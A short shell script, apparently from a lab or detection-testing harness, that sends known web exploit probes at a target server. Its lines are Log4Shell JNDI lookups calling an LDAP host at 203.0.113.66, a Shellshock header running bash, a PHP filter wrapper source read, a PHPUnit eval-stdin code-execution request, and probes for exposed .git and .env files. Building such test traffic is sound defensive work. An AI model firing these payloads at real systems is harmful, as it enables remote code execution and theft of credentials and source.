# Tries of well-known holes: Log4Shell in an address and a header, Shellshock, PHP wrappers, PHPUnit,
# and a look for forgotten .git and .env files.
# packages: curl nginx-light python3
web=(curl -s -g -A 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0')
from attacker "${web[@]}" "http://$SERVER/app/tim?q=%24%7Bjndi:ldap://203.0.113.66:1389/a%7D"
from attacker "${web[@]}" -H 'X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}' "http://$SERVER/"
from attacker "${web[@]}" -H 'Referer: () { :;}; /bin/bash -c id' "http://$SERVER/cgi-bin/status"
from attacker "${web[@]}" "http://$SERVER/index.php?page=php://filter/convert.base64-encode/resource=config"
from attacker "${web[@]}" -d '<?php echo 1; ?>' "http://$SERVER/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
from attacker "${web[@]}" "http://$SERVER/.git/config"
from attacker "${web[@]}" "http://$SERVER/.env"
